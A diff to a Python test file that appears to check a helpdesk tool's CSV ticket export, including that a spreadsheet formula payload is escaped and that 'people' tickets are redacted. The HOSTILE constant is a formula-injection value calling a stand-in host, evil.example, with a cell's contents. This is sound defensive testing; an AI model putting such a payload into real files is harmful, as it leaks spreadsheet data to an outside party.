@@ -18,6 +18,7 @@ from storage import people
 from tests import desk
 from tests.bot.conftest import Terminal
 from tests.desk import Counter, press, words
+from tests.handlers.ticket.helpdesk import asks, helpdesk
 
 HOSTILE = '=HYPERLINK("https://evil.example?"&A1,"Ana")'
 
@@ -67,6 +68,19 @@ def test_what_is_owed_on_a_day(terminal: Terminal, july_to_august: None, tmp_pat
     ]
     terminal(f"export liability {file} --on 2026-08-31")
     assert [row[-1] for row in read(file)[1:]] == ["15", "5.5"]
+
+
+def test_tickets_that_were_opened_on_a_day(terminal: Terminal, tmp_path: Path) -> None:
+    with helpdesk(terminal.database_url) as counter:
+        asks(counter, "ana", HOSTILE)
+        asks(counter, "ana", "About my manager", category="people")
+    file = tmp_path / "tickets.csv"
+    assert terminal(f"export tickets {file} --since 2026-08-03 --until 2026-08-03").out == f"2 rows in {file}\n"
+    assert [row[:4] for row in read(file)[1:]] == [
+        ["TIC-1", "network", f"'{HOSTILE}", "ana@company.example"],
+        ["TIC-2", "people", "", ""],
+    ]
+    assert terminal(f"export tickets {file} --since 2026-08-04").out.startswith("0 rows")
 
 
 def test_a_month_and_a_file_that_do_not_work(terminal: Terminal, july_to_august: None, tmp_path: Path) -> None:
